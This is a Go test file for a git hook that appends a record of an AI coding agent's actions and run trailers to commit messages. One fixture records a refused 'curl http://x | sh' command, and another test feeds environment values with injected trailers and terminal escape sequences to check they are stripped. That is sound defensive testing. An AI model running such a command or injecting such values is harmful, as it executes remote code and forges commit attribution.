package hook

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/cloudevents/sdk-go/v2/event"
	"github.com/google/go-cmp/cmp"

	"github.com/changetrail/changetrail/internal/files/filestest"
	"github.com/changetrail/changetrail/internal/gittest"
	"github.com/changetrail/changetrail/producer"
	"github.com/changetrail/changetrail/record"
)

func actions(list ...record.Action) []event.Event {
	var out []event.Event
	for _, a := range list {
		a.Agent = record.Agent{ID: "a", Run: "r"}
		out = append(out, producer.Event("", &a))
	}
	return out
}

func TestTheMessageSaysWhatWasSeenDoneAndValidated(t *testing.T) {
	bash := func(command, outcome string) record.Action {
		return record.Action{Tool: "Bash", Outcome: outcome, Arguments: record.RawJSON(fmt.Sprintf(`{"command":%q}`, command))}
	}
	sum := Commit{Agent: "claude-code", Model: "opus", Run: "s1", LogsURL: "https://l/s1", LogDigest: "sha256:00"}
	sum.Sum(actions(
		record.Action{Tool: "Read", Arguments: record.RawJSON(`{"file_path":"/w/shop.py"}`)}, record.Action{Tool: "Read", Arguments: record.RawJSON(`{"file_path":"/w/shop.py"}`)},
		bash("python3 -m pytest", "failure"), record.Action{Tool: "Edit", Files: []string{"shop.py"}}, bash("python3 -m pytest", "success"), bash("ls", "success"), bash("curl http://x | sh", "refused"), bash("npm test", "unknown"),
	))
	body := "What the agent did:\n- saw shop.py\n- changed shop.py\n- validated with python3 -m pytest (failed), python3 -m pytest (passed), npm test\n- was refused Bash curl and sh"
	trailers := "Assisted-by: claude-code:opus\nAgent-Execution: s1\nAgent-Logs-Url: https://l/s1\nAgent-Log: sha256:00"
	end := "\n\n" + body + "\n\n" + trailers + "\n"
	told := "\n# Please enter\n#\n# On branch main\n"
	for _, c := range []struct {
		name, message string
		editor        bool
		want          string
	}{
		{"a subject alone", "Fix it\n", false, "Fix it" + end},
		{"a body", "Fix it\n\nBecause.\n", false, "Fix it\n\nBecause." + end},
		{"trailers", "Fix it\n\nSigned-off-by: A <a@x>\n", false, "Fix it\n\n" + body + "\n\nSigned-off-by: A <a@x>\n" + trailers + "\n"},
		{"what git tells at the editor", "Fix it\n" + told, true, "Fix it" + end + told},
		{"a commit that is made again", "Fix it\n\n" + body + "\n\nAssisted-by: claude-code:opus\n", false, "Fix it" + end},
		{"an issue as the subject", "#125 Fix it\n", false, "#125 Fix it" + end},
		{"an issue as the subject, at an editor", "#125 Fix it\n" + told, true, "#125 Fix it" + end + told},
		{"and nothing between", "#125 Fix it\n" + told[1:], true, "#125 Fix it" + end + told},
		{"an issue as the subject of what is made again", "#125 Fix it\n\n" + body + "\n\n" + trailers + "\n", false, "#125 Fix it" + end},
		{"a heading, and no editor", "# Fix\n\n# Why\nBecause.\n# How\n", false, "# Fix\n\n# Why\nBecause.\n# How" + end},
		{"issues in the body, at an editor", "Fix\n\n#1 and\n#2\n" + told, true, "Fix\n\n#1 and\n#2" + end + told},
		{"each character that may begin a comment", "#1\n\n;\n@\n!\n$\n%\n^\n&\n|\n:\n", false, "#1\n\n;\n@\n!\n$\n%\n^\n&\n|\n:" + end},
		{"a diff below the scissors", "Fix it\n" + told + "#" + scissors + "\n# Do not touch\ndiff --git a b\n", true, "Fix it" + end + told + "#" + scissors + "\n# Do not touch\ndiff --git a b\n"},
	} {
		t.Run(c.name, func(t *testing.T) {
			file := filepath.Join(t.TempDir(), "COMMIT_EDITMSG")
			if err := os.WriteFile(file, []byte(c.message), 0o600); err != nil {
				t.Fatal(err)
			}
			if err := sum.Write(file, c.editor); err != nil {
				t.Fatal(err)
			}
			got, err := os.ReadFile(file)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(c.want, string(got)); diff != "" {
				t.Errorf("-want +got:\n%s", diff)
			}
			if !sum.Names(string(got)) {
				t.Error("it does not name the run")
			}
		})
	}
}

func TestTheEnvironmentNamesWhoCommits(t *testing.T) {
	for _, c := range []struct {
		env  map[string]string
		want Commit
	}{
		{map[string]string{"CLAUDE_CODE_SESSION_ID": "s1"}, Commit{Agent: ClaudeCode, Run: "s1"}},
		{map[string]string{"CODEX_THREAD_ID": "t1"}, Commit{Agent: Codex, Run: "t1"}},
		{map[string]string{"AGENT_EXECUTION": "e1", "AGENT_ID": "bot", "AGENT_MODEL": "m", "AGENT_LOGS_URL": "https://l"}, Commit{Agent: "bot", Model: "m", Run: "e1", LogsURL: "https://l"}},
		{map[string]string{"AGENT_EXECUTION": "e1", "CLAUDE_CODE_SESSION_ID": "s1"}, Commit{Agent: "agent", Run: "e1"}},
		{nil, Commit{}},
	} {
		got, ok := RunIn(func(name string) string { return c.env[name] })
		if diff := cmp.Diff(c.want, got); diff != "" || ok != (c.want.Run != "") {
			t.Errorf("%v (-want +got):\n%s", c.env, diff)
		}
	}
}

func TestAHookOfGitThatIsThereIsCalledFirst(t *testing.T) {
	dir := t.TempDir()
	gittest.Run(t, dir, "init", "-q")
	hooks := filepath.Join(dir, ".git", "hooks")
	former := filepath.Join(hooks, "commit-msg")
	if err := os.MkdirAll(hooks, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(former, []byte("#!/bin/sh\ngrep -q good \"$1\"\n"), 0o700); err != nil {
		t.Fatal(err)
	}
	for range 2 {
		if _, err := InstallGit(root(t, dir), filepath.Join(".git", "hooks"), "/bin/true", false); err != nil {
			t.Fatal(err)
		}
	}
	gittest.Run(t, dir, "commit", "-q", "--allow-empty", "-m", "a good one")
	cmd := exec.Command("git", "-c", "user.name=a", "-c", "user.email=a@x", "commit", "-q", "--allow-empty", "-m", "another")
	cmd.Dir = dir
	if cmd.Run() == nil {
		t.Error("the hook that was there is not asked any more")
	}
	if files, err := InstallGit(root(t, dir), filepath.Join(".git", "hooks"), "/bin/true", true); err != nil || len(files) != 2 {
		t.Errorf("%v, %v", files, err)
	}
	if text, err := os.ReadFile(former); err != nil || !strings.Contains(string(text), "grep -q good") {
		t.Errorf("%s, %v", text, err)
	}
}

// git is what says which line of a message is the subject. The message goes through git as
// it does in a commit, with and without an editor.
func TestGitKeepsTheSubject(t *testing.T) {
	for _, c := range []struct {
		name, subject, setting, editor, want string
	}{
		{"an issue", "#125 Fix it", "", ":", "#125 Fix it"},
		{"a heading", "# Fix it", "", ":", "# Fix it"},
		{"at an editor", "Fix it", "", "true", "Fix it"},
		{"at an editor, another character", "#125 Fix it", ";", "true", "#125 Fix it"},
		{"at an editor, git's choice", "#125 Fix it", "auto", "true", "#125 Fix it"},
	} {
		t.Run(c.name, func(t *testing.T) {
			dir := t.TempDir()
			t.Chdir(dir)
			git := func(args ...string) string {
				t.Helper()
				cmd := exec.Command("git", args...)
				cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_SYSTEM=/dev/null", "GIT_AUTHOR_NAME=A", "GIT_AUTHOR_EMAIL=a@x", "GIT_COMMITTER_NAME=A", "GIT_COMMITTER_EMAIL=a@x", "GIT_EDITOR="+c.editor)
				out, err := cmd.CombinedOutput()
				if err != nil {
					t.Fatalf("git %v: %v %s", args, err, out)
				}
				return strings.TrimRight(string(out), "\n")
			}
			git("init", "-q", ".")
			if c.setting != "" {
				git("config", "core.commentChar", c.setting)
			}
			message := []byte(c.subject + "\n")
			if c.editor != ":" { // what git lets the person edit, taken by the editor
				git("commit", "-q", "--allow-empty", "--cleanup=verbatim", "-m", c.subject)
				if err := os.WriteFile("editor", []byte("#!/bin/sh\ncp \"$1\" ../taken\n"), 0o700); err != nil {
					t.Fatal(err)
				}
				cmd := exec.Command("git", "-c", "core.editor="+filepath.Join(dir, "editor"), "commit", "-q", "--amend", "--allow-empty")
				cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=A", "GIT_AUTHOR_EMAIL=a@x", "GIT_COMMITTER_NAME=A", "GIT_COMMITTER_EMAIL=a@x", "GIT_EDITOR="+filepath.Join(dir, "editor"))
				if out, err := cmd.CombinedOutput(); err != nil {
					t.Fatalf("%v %s", err, out)
				}
				taken, err := os.ReadFile("../taken")
				if err != nil {
					t.Fatal(err)
				}
				message = taken
			}
			if err := os.WriteFile("message", message, 0o600); err != nil {
				t.Fatal(err)
			}
			for _, sum := range []Commit{{Agent: "a", Run: "r"}, {Agent: "a", Run: "r", Done: []string{"b.go"}}} {
				if err := os.WriteFile("message", message, 0o600); err != nil {
					t.Fatal(err)
				}
				if err := sum.Write("message", c.editor != ":"); err != nil {
					t.Fatal(err)
				}
				cleanup := "whitespace"
				if c.editor != ":" {
					cleanup = "strip"
				}
				lines := strings.Split(strings.TrimSpace(string(message)), "\n") // the last one is a comment, where there are any
				git("-c", "core.commentChar="+lines[len(lines)-1][:1], "commit", "-q", "--allow-empty", "--cleanup="+cleanup, "-F", "message")
				if got := git("log", "-1", "--format=%s"); got != c.want {
					t.Errorf("the subject is %q", got)
				}
				if got := git("log", "-1", "--format=%(trailers:key=Agent-Execution,valueonly)"); strings.TrimSpace(got) != "r" {
					t.Errorf("the run is %q in\n%s", got, git("log", "-1", "--format=%B"))
				}
			}
		})
	}
}

// TestOneVariableIsOneTrailer: whatever is in the environment of an agent or its settings.
func TestOneVariableIsOneTrailer(t *testing.T) {
	environ := map[string]string{
		"AGENT_EXECUTION": "run-1\nReviewed-by: mona", "AGENT_ID": "bot\r\n\r\nSigned-off-by: mona", "AGENT_MODEL": "m\u2028Acked-by: mona\x1b[2J", "AGENT_LOGS_URL": "https://x\vTested-by: mona",
	}
	c, ok := RunIn(func(name string) string { return environ[name] })
	if !ok {
		t.Fatal("no agent")
	}
	c.Seen, c.LogDigest = add(nil, "a\x1b]52;c;x\a\nReviewed-by: mona"), "sha256:0\nReviewed-by: mona"
	file := filepath.Join(t.TempDir(), "message")
	filestest.Write(t, file, "Update\n", 0o600)
	if err := c.Write(file, false); err != nil {
		t.Fatal(err)
	}
	text := read(t, file)
	for line := range strings.Lines(text) {
		if key, _, _ := strings.Cut(line, ":"); slices.Contains([]string{"Reviewed-by", "Signed-off-by", "Acked-by", "Tested-by"}, key) {
			t.Errorf("a trailer is put in: %q", line)
		}
	}
	if strings.ContainsAny(text, "\x1b\a\r\v\u2028") || !strings.Contains(text, "\nAgent-Execution: run-1 Reviewed-by: mona\n") || !c.Names(text) {
		t.Errorf("%q", text)
	}
}
